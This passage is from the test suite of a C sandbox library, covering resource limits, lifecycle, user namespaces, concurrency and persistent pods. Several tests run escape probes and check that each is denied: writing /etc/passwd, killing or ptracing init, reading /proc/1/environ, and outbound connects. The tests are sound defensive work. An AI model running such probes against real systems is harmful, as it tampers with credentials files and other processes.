    TEST("res/tmpfull") {
        struct run *R = sbx("head -c 40000000 /dev/zero > /tmp/a; head -c 40000000 /dev/zero > /tmp/b; echo rc=$?; df -k /tmp | tail -1 | awk '{print $2}'");
        check(R->rc == 0 && strstr(R->err, "No space left on device") && strstr(R->out, "rc=1\n65536\n"),
              "res/tmpfull: /tmp is a 64 MiB tmpfs, filling it gives ENOSPC", R, "tmpfull");
        run_free(R);
    }
    TEST("res/nofile") {
        struct run *R = sbx("ulimit -n; ulimit -c");
        check(ran_ok(R) && strcmp(R->out, "1024\n0\n") == 0, "res/nofile: RLIMIT_NOFILE 1024, no core dumps", R, "nofile");
        run_free(R);
    }
}

static void test_lifecycle(void)
{
    TEST("life/setup-failure") {
        struct cs_config cfg = { 0 };
        const char *argv[] = { "/bin/true", NULL };
        struct cs_bind bad = { "/etc/hostname", "/etc/not-in-skeleton", 0 };
        cfg.argv = argv; cfg.envp = envp; cfg.workspace = workspace; cfg.home = "/home/alice"; cfg.rootfs = rootfs;
        cfg.uid = 1000; cfg.gid = 1000; cfg.policy = pol; cfg.binds = &bad; cfg.nbinds = 1;
        struct cs_child ch;
        char err[512];
        int rc = cs_spawn(&cfg, &ch, err, sizeof err);
        check(rc == -1 && ch.failed_layer == CS_LAYER_MOUNT && ch.failed_errno == EROFS && strstr(err, "mount: create") &&
              strstr(err, "/etc/not-in-skeleton: Read-only file system (EROFS)"),
              "life/setup-failure: a layer that cannot be built is named with its errno; nothing runs", NULL, "rc=%d layer=%d errno=%d err=%s", rc, ch.failed_layer, ch.failed_errno, err);
    }
    TEST("life/exec-failure") {
        struct cs_config cfg = { 0 };
        const char *argv[] = { "/no/such/binary", NULL };
        cfg.argv = argv; cfg.envp = envp; cfg.workspace = workspace; cfg.home = "/home/alice"; cfg.rootfs = rootfs;
        cfg.uid = 1000; cfg.gid = 1000; cfg.policy = pol;
        struct cs_child ch;
        struct cs_result r;
        char err[512];
        int rc = cs_spawn(&cfg, &ch, err, sizeof err);
        if (rc == 0) cs_run(&ch, pol, NULL, NULL, NULL, &r);
        check(rc == 0 && r.exec_errno == ENOENT && r.exit_code == 127, "life/exec-failure: a missing binary is reported as exec_errno ENOENT", NULL, "rc=%d %s", rc, rc ? err : "");
    }
    TEST("life/root-refused") {
        struct cs_config cfg = { 0 };
        const char *argv[] = { "/bin/true", NULL };
        cfg.argv = argv; cfg.envp = envp; cfg.workspace = workspace; cfg.home = "/home/alice"; cfg.rootfs = rootfs;
        cfg.uid = 0; cfg.gid = 0; cfg.policy = pol;
        struct cs_child ch;
        char err[512];
        check(cs_spawn(&cfg, &ch, err, sizeof err) == -1 && strstr(err, "uid/gid 0"), "life/root-refused: uid 0 is refused", NULL, "%s", err);
    }
    TEST("life/supervisor-dies") {
        /* A helper process spawns a sandbox and is SIGKILLed: PDEATHSIG takes the sandbox down. */
        int pfd[2];
        if (pipe(pfd)) return;
        pid_t helper = fork();
        if (helper == 0) {
            const char *argv[] = { "/bin/sleep", "1000", NULL };
            struct cs_config cfg = { .argv = argv, .envp = envp, .workspace = workspace, .home = "/home/alice",
                                     .rootfs = rootfs, .uid = 1000, .gid = 1000, .policy = pol };
            struct cs_child ch;
            char err[256];
            if (cs_spawn(&cfg, &ch, err, sizeof err) != 0) _exit(1);
            if (write(pfd[1], &ch.pid, sizeof ch.pid) < 0) _exit(1);
            pause();
            _exit(0);
        }
        pid_t init = -1;
        if (read(pfd[0], &init, sizeof init) != sizeof init) init = -1;
        usleep(50000);
        kill(helper, SIGKILL);
        waitpid(helper, NULL, 0);
        int gone = 0;  /* gone, or a zombie waiting for the host's init to reap it */
        for (int i = 0; i < 100 && !gone; i++) {
            char p[64], st[256] = "";
            snprintf(p, sizeof p, "/proc/%d/stat", init);
            FILE *f = fopen(p, "r");
            if (f) { if (!fgets(st, sizeof st, f)) st[0] = 0; fclose(f); }
            char *rp = strrchr(st, ')');
            gone = !f || (rp && rp[2] == 'Z');
            if (!gone) usleep(10000);
        }
        int left = count_uid1000();
        check(init > 0 && gone && left == 0, "life/supervisor-dies: SIGKILL of the supervisor takes its sandbox with it", NULL, "init=%d gone=%d left=%d", init, gone, left);
        close(pfd[0]); close(pfd[1]);
    }
    TEST("life/userns") {
        /* An unprivileged caller (uid 65534): cs_spawn adds a user namespace,
         * maps inside uid/gid 1000 to the caller, and every layer still holds. */
        char ws[600];
        snprintf(ws, sizeof ws, "%s/userns-ws", workspace);
        mkdir(ws, 0755);
        if (chown(ws, 65534, 65534) != 0) return;
        int pfd[2];
        if (pipe(pfd)) return;
        pid_t c = fork();
        if (c == 0) {
            close(pfd[0]);
            if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)) _exit(3);
            const char *argv[] = { "/bin/sh", "-c", "id; hostname; touch f && ls -n f | awk '{print $3}'; cat /proc/self/uid_map | tr -s ' '; "
                                   "echo x > /etc/passwd; probe connect4 80 10.1.2.3; probe unshare; grep CapBnd /proc/self/status", NULL };
            struct cs_bind binds[] = { { "/etc/alternatives", "/etc/alternatives", 0 }, { bindir, "/opt/tests", 0 } };
            struct cs_config cfg = { .argv = argv, .envp = envp, .workspace = ws, .home = "/home/alice", .rootfs = rootfs,
                                     .binds = binds, .nbinds = 2, .uid = 1000, .gid = 1000, .hostname = "ws-alice", .policy = pol };
            struct cs_child ch;
            static struct run R;
            R.out = calloc(1, 1 << 16);
            R.err = calloc(1, 1 << 16);
            struct cs_run_opts ro = { .timeout_ms = 10000, .out = R.out, .out_cap = 1 << 16, .err = R.err, .err_cap = 1 << 16 };
            if (cs_spawn(&cfg, &ch, R.spawn_err, sizeof R.spawn_err) == 0) cs_run(&ch, pol, &ro, on_event, &R, &R.r);
            else R.rc = -1;
            const struct cs_event *e = find_event(&R, "connect");
            int ok = R.rc == 0 && strcmp(R.out, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\nws-alice\n1000\n 1000 65534 1\n"
                     "connect4 rc=-1 errno=ENETUNREACH\nunshare rc=-1 errno=EPERM\nCapBnd:\t0000000000000000\n") == 0 &&
                     strstr(R.err, "cannot create /etc/passwd: Read-only file system") && e && strcmp(e->addr, "10.1.2.3") == 0;
            dprintf(pfd[1], "%s|%s|%s|%s", ok ? "ok" : "bad", R.spawn_err, R.out, R.err);
            _exit(0);
        }
        close(pfd[1]);
        char buf[2048] = "";
        ssize_t n = read(pfd[0], buf, sizeof buf - 1);
        if (n > 0) buf[n] = 0;
        close(pfd[0]);
        waitpid(c, NULL, 0);
        check(strncmp(buf, "ok|", 3) == 0, "life/userns: as uid 65534, a user namespace maps alice; root ro, network recorded, no caps", NULL, "%s", buf);
    }
    TEST("life/concurrent") {
        /* Two sandboxes at once: each sees only its own processes. */
        const char *a1[] = { "/bin/sleep", "2", NULL };
        struct cs_config cfg = { .argv = a1, .envp = envp, .workspace = workspace, .home = "/home/alice",
                                 .rootfs = rootfs, .uid = 1000, .gid = 1000, .policy = pol };
        struct cs_child A;
        char err[256];
        int rc = cs_spawn(&cfg, &A, err, sizeof err);
        struct run *R = sbx("echo /proc/[0-9]*; pgrep -c sleep; kill -9 1; echo $?");
        cs_kill(&A);
        struct cs_result ra;
        cs_reap(&A, &ra);
        check(rc == 0 && ran_ok(R) && strcmp(R->out, "/proc/1 /proc/2\n0\n0\n") == 0, "life/concurrent: a second sandbox sees neither the first's sleep nor can it kill its own init", R, "out");
        run_free(R);
    }
}


/* ------------------------------------------------------------ pods */

/* A pod with the same configuration as sbx(). */
static int pod_start(struct cs_pod *pod, char *err, size_t len)
{
    static const char *const no_argv[] = { NULL };
    static struct cs_bind binds[3];
    binds[0] = (struct cs_bind){ "/etc/alternatives", "/etc/alternatives", 0 };
    binds[1] = (struct cs_bind){ "/etc/ld.so.cache", "/etc/ld.so.cache", 0 };
    binds[2] = (struct cs_bind){ bindir, "/opt/tests", 0 };
    struct cs_config cfg = { .argv = no_argv, .envp = envp, .workspace = workspace, .home = "/home/alice",
                             .rootfs = rootfs, .binds = binds, .nbinds = 3, .uid = 1000, .gid = 1000,
                             .hostname = "ws-alice", .policy = pol, .limits = default_limits() };
    return cs_pod_start(&cfg, pod, err, len);
}

/* Run `sh -c cmd` in a pod; R->rc is cs_pod_run's result, R->spawn_err its message. */
static struct run *pod_sh(struct cs_pod *pod, const char *cmd, int timeout_ms, struct cs_pod_facts *facts)
{
    struct run *R = calloc(1, sizeof *R);
    R->out = calloc(1, (1 << 20) + 1);
    R->err = calloc(1, (1 << 20) + 1);
    const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
    struct cs_command c = { argv, envp, 0 };
    struct cs_run_opts ro = { .timeout_ms = timeout_ms ? timeout_ms : 20000, .out = R->out, .out_cap = 1 << 20,
                              .err = R->err, .err_cap = 1 << 20 };
    R->rc = cs_pod_run(pod, &c, pol, &ro, on_event, R, &R->r, facts, R->spawn_err, sizeof R->spawn_err);
    return R;
}

/* Is this cgroup directory still there? */
static int cgroup_exists(const char *dir) { struct stat st; return dir[0] && stat(dir, &st) == 0; }

static void test_pods(void)
{
    TEST("pod/layers") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        struct cs_pod_facts f1, f2;
        struct run *A = rc == 0 ? pod_sh(&pod, "id; hostname; pwd; env | sort | grep -v '^PWD=\\|^SHLVL=\\|^_='; "
            "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\\t' ' '; "
            "[ \"$(ps -o sid= -p $$ | tr -d ' ')\" = $$ ] && echo own-session; ls /proc | grep -c '^[0-9]'; tr -d '\\0' < /proc/1/cmdline; echo; "
            "ls -a /tmp /dev/shm | tr '\\n' ' '; echo; probe connect4 80 10.1.2.3; echo x > /etc/passwd", 0, &f1) : NULL;
        struct run *B = rc == 0 ? pod_sh(&pod, "echo second; ulimit -n", 0, &f2) : NULL;
        const struct cs_event *ev = A ? find_event(A, "connect") : NULL;
        int ok = rc == 0 && A->rc == 0 && B->rc == 0 && A->r.exited && A->r.exit_code == 2 &&
            strcmp(A->out, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\nws-alice\n/home/alice\n"
                   "HOME=/home/alice\nLANG=C.UTF-8\nLOGNAME=alice\nPATH=/opt/tests:/usr/local/bin:/usr/bin:/bin\nTZ=UTC\nUSER=alice\n"
                   "CapEff: 0000000000000000\nCapBnd: 0000000000000000\nNoNewPrivs: 1\nSeccomp: 2\nown-session\n4\n/sbin/init\n"
                   "/dev/shm: . ..  /tmp: . .. \nconnect4 rc=-1 errno=ENETUNREACH\n") == 0 &&
            strstr(A->err, "Read-only file system") && ev && strcmp(ev->addr, "10.1.2.3") == 0 && ev->decision == CS_DECIDE_DENY &&
            strcmp(B->out, "second\n1024\n") == 0 && f1.init_pid == f2.init_pid && !f1.retired && !f2.retired && pod.commands == 2;
        check(ok, "pod/layers: two commands in one pod: same init, every layer (ids, env, caps, nnp, seccomp, session, root ro), a connect recorded",
              A, "rc=%d %s B=[%s] init %d/%d retired %d/%d", rc, err, B ? B->out : "", f1.init_pid, f2.init_pid, f1.retired, f2.retired);
        if (A) run_free(A);
        if (B) run_free(B);
        cs_pod_stop(&pod);
    }
    TEST("pod/background") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        struct run *A = rc == 0 ? pod_sh(&pod, "sleep 300 & setsid sleep 301 & (trap '' TERM HUP; sleep 302) & echo started", 0, NULL) : NULL;
        int between = count_uid1000();   /* exactly one: init */
        struct run *B = rc == 0 ? pod_sh(&pod, "pgrep -c sleep; set -- /proc/[0-9]*; echo $#", 0, NULL) : NULL;
        check(rc == 0 && A->rc == 0 && strcmp(A->out, "started\n") == 0 && between == 1 && B->rc == 0 && strcmp(B->out, "0\n2\n") == 0,
              "pod/background: background jobs and daemons of call 1 are gone when it returns; call 2 sees a clean process table", B,
              "between=%d A=[%s]", between, A ? A->out : "");
        if (A) run_free(A);
        if (B) run_free(B);
        cs_pod_stop(&pod);
        int left = count_uid1000();
        check(left == 0, "pod/stop: stopping the pod leaves no process", NULL, "left=%d", left);
    }
    TEST("pod/init-protected") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        struct cs_pod_facts f1, f2;
        struct run *A = rc == 0 ? pod_sh(&pod, "kill -9 1; kill -STOP 1; kill -TERM 1; echo sent; "
            "prlimit --pid 1 --nofile=4:4 2>&1 | head -1; renice -n 10 -p 1 2>&1 | head -1; renice -n 5 -u alice 2>&1 | head -1; "
            "taskset -p 1 1 2>&1 | tail -1; cat /proc/1/environ 2>&1; ls /proc/1/fd 2>&1; python3 -c '\n"
            "import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "r = libc.ptrace(16, 1, 0, 0)\nprint(\"attach\", errno.errorcode[ctypes.get_errno()] if r == -1 else \"ok\")'", 0, &f1) : NULL;
        struct run *B = rc == 0 ? pod_sh(&pod, "ulimit -n; nice; grep Cpus_allowed_list /proc/self/status | tr -d '\\t'", 0, &f2) : NULL;
        int recorded = 0;
        for (int i = 0; A && i < A->nev; i++)
            recorded += (strcmp(A->ev[i].syscall, "prlimit64") == 0 || strcmp(A->ev[i].syscall, "setpriority") == 0 ||
                         strcmp(A->ev[i].syscall, "sched_setaffinity") == 0 || strcmp(A->ev[i].syscall, "ptrace") == 0) &&
                        A->ev[i].decision == CS_DECIDE_DENY && A->ev[i].error == EPERM;
        check(rc == 0 && A->rc == 0 && B->rc == 0 && strstr(A->out, "sent\n") && strstr(A->out, "attach EPERM\n") &&
              strstr(A->out, "Operation not permitted") && strstr(A->out, "Permission denied") && recorded >= 5 &&
              f1.init_pid == f2.init_pid && !f2.retired && strncmp(B->out, "1024\n0\nCpus_allowed_list:", 25) == 0,
              "pod/init-protected: a command cannot kill, stop, ptrace, re-limit, renice or pin init; the next command inherits nothing",
              A, "B=[%s] recorded=%d init %d/%d", B ? B->out : "", recorded, f1.init_pid, f2.init_pid);
        if (A) run_free(A);
        if (B) run_free(B);
        cs_pod_stop(&pod);
    }
    TEST("pod/timeout") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        struct cs_pod_facts f;
        char cg[256];
        snprintf(cg, sizeof cg, "%s", pod.c.cgroup_pids);
        struct run *A = rc == 0 ? pod_sh(&pod, "sleep 1000 & (setsid sleep 1000 &) ; sleep 1000", 500, &f) : NULL;
        int left = count_uid1000();
        check(rc == 0 && A->rc == 0 && A->r.timed_out && A->r.signaled && A->r.signal == SIGKILL && A->r.wall_ms < 1500 &&
              f.retired && strcmp(f.why, "timeout") == 0 && !pod.live && left == 0 && !cgroup_exists(cg),
              "pod/timeout: the wall clock kills the whole tree (init with it), the pod is retired, its cgroups removed", A,
              "wall=%.0f retired=%d why=%s left=%d cg=%d", A ? A->r.wall_ms : 0, f.retired, f.why, left, cgroup_exists(cg));
        if (A) run_free(A);
        rc = pod_start(&pod, err, sizeof err);
        struct run *B = rc == 0 ? pod_sh(&pod, "echo fresh", 0, &f) : NULL;
        check(rc == 0 && B->rc == 0 && strcmp(B->out, "fresh\n") == 0, "pod/timeout-restart: the next pod runs normally", B, "%s", err);
        if (B) run_free(B);
        cs_pod_stop(&pod);
    }
    TEST("pod/init-death") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        /* between commands: the next call is an error naming init, nothing runs */
        kill(pod.c.pid, SIGKILL);
        usleep(20000);
        struct run *A = rc == 0 ? pod_sh(&pod, "echo must-not-run > ran.txt", 0, NULL) : NULL;
        char ran[600];
        snprintf(ran, sizeof ran, "%s/ran.txt", workspace);
        check(A && A->rc == -1 && strstr(A->spawn_err, "init: the sandbox's init process") && strstr(A->spawn_err, "killed by signal 9") &&
              access(ran, F_OK) != 0 && !pod.live,
              "pod/init-death: init killed between commands -> the call fails naming init, nothing ran", A, "%s", A ? A->spawn_err : "");
        if (A) run_free(A);
        /* during a command: a killer process takes init down mid-command */
        rc = pod_start(&pod, err, sizeof err);
        pid_t victim = pod.c.pid, killer = fork();
        if (killer == 0) { usleep(200000); kill(victim, SIGKILL); _exit(0); }
        struct run *B = rc == 0 ? pod_sh(&pod, "sleep 5 & sleep 5", 0, NULL) : NULL;
        waitpid(killer, NULL, 0);
        int left = count_uid1000();
        check(B && B->rc == -1 && strstr(B->spawn_err, "died during the command") && left == 0,
              "pod/init-death-during: init killed mid-command -> a clear error, no process left", B, "left=%d %s", left, B ? B->spawn_err : "");
        if (B) run_free(B);
        rc = pod_start(&pod, err, sizeof err);
        struct run *C = rc == 0 ? pod_sh(&pod, "echo recovered", 0, NULL) : NULL;
        check(C && C->rc == 0 && strcmp(C->out, "recovered\n") == 0, "pod/init-death-recovery: a new pod serves the next command", C, "%s", err);
        if (C) run_free(C);
        cs_pod_stop(&pod);
    }
    TEST("pod/leftovers") {
        struct cs_pod pod;
        char err[512] = "";
        int rc = pod_start(&pod, err, sizeof err);
        struct cs_pod_facts f0, f1, f2, f3;
        struct run *A = rc == 0 ? pod_sh(&pod, "cd /tmp && echo t > t && cat t && rm t", 0, &f0) : NULL;
        struct run *B = rc == 0 ? pod_sh(&pod, "echo kept > /tmp/k", 0, &f1) : NULL;
        int r1 = f1.retired;
        rc = rc == 0 && pod_start(&pod, err, sizeof err) == 0 ? 0 : -1;
        struct run *C = rc == 0 ? pod_sh(&pod, "ls -A /tmp; python3 -c 'from multiprocessing import shared_memory as s; m = s.SharedMemory(create=True, size=64, name=\"x\")'", 0, &f2) : NULL;
        rc = rc == 0 && pod_start(&pod, err, sizeof err) == 0 ? 0 : -1;
        struct run *D = rc == 0 ? pod_sh(&pod, "ls -A /dev/shm; echo clean", 0, &f3) : NULL;
        check(rc == 0 && A->rc == 0 && !f0.retired && r1 && strcmp(f1.why, "left files in /tmp") == 0 && C->rc == 0 &&
              strcmp(C->out, "") == 0 && f2.retired && strcmp(f2.why, "left files in /dev/shm") == 0 && D->rc == 0 &&
              strcmp(D->out, "clean\n") == 0 && !f3.retired,
              "pod/leftovers: a command that leaves /tmp or /dev/shm files retires its pod; the next sees them empty", C,
              "f0=%d f1=%d(%s) f2=%d(%s) D=[%s]", f0.retired, f1.retired, f1.why, f2.retired, f2.why, D ? D->out : "");
        if (A) run_free(A);
        if (B) run_free(B);
        if (C) run_free(C);
        if (D) run_free(D);
        cs_pod_stop(&pod);
    }
}

/* 8 threads x 6 sandboxes each, all at once: no sandbox sees another, and no
 * pipe end leaks into a sibling's child (that would delay EOF). */
static void *thread_body(void *arg)
{
    long ok = 0;
    for (int i = 0; i < 6; i++) {
        struct opts o = { .timeout_ms = 20000, .no_cgroup = 1, .lim = { .nofile = 256 } };
        struct run *R = sbx_opts("echo /proc/[0-9]*; sleep 0.05", &o);
        int good = ran_ok(R) && strcmp(R->out, "/proc/1 /proc/2\n") == 0 && R->r.wall_ms < 5000;
        if (!good)  /* say which part failed, so a rare failure can be diagnosed from the log */
            fprintf(stderr, "life/threads: ran_ok=%d wall_ms=%lld out=[%s]\n", ran_ok(R), (long long)R->r.wall_ms, R->out);
        ok += good;
        run_free(R);
    }
    (void)arg;
    return (void *)ok;
}

static void test_threads(void)
{
    TEST("life/threads") {
        pthread_t th[8];
        long total = 0;
        for (int i = 0; i < 8; i++) pthread_create(&th[i], NULL, thread_body, NULL);
        for (int i = 0; i < 8; i++) { void *r; pthread_join(th[i], &r); total += (long)r; }
        int left = count_uid1000();
        check(total == 48 && left == 0, "life/threads: 48 sandboxes from 8 threads at once, each sees only itself, none lingers", NULL,
              "%ld of 48 ok, left=%d", total, left);
    }
}

int main(int argc, char **argv)
{
    if (argc < 5) { fprintf(stderr, "usage: %s policy rootfs workspace bindir [filter]\n", argv[0]); return 2; }
    policy_path = argv[1]; rootfs = argv[2]; workspace = argv[3]; bindir = argv[4];
    filter = argc > 5 ? argv[5] : NULL;
    setenv("TERRARIUM_HOST_SECRET", "must-not-leak", 1);
    signal(SIGPIPE, SIG_IGN);  /* like a typical server; the sandbox must not inherit it */
    char err[512];
    pol = cs_policy_load(policy_path, err, sizeof err);
    if (!pol) { printf("FAIL policy: %s\n", err); return 1; }
    printf("policy %s: %zu BPF instructions\n", policy_path, cs_policy_bpf_len(pol));
    if (count_uid1000() != 0) printf("note: host processes with uid 1000 exist; 'nothing left' checks may fail\n");
    test_policy();
    test_ordinary();
    test_network();
    test_filesystem();
    test_privilege();
    test_resources();
    test_lifecycle();
    test_threads();
    test_pods();
    TEST("work/sigpipe") {
        struct run *R = sbx("yes | head -1; echo ${PIPESTATUS:-ok}");
        check(ran_ok(R) && strcmp(R->out, "y\nok\n") == 0 && R->err[0] == '\0', "work/sigpipe: SIGPIPE default restored (yes | head)", R, "sigpipe");
        run_free(R);
    }
    cs_policy_free(pol);
    printf("%d passed, %d failed\n", passed, failed);
    return failed ? 1 : 0;
}
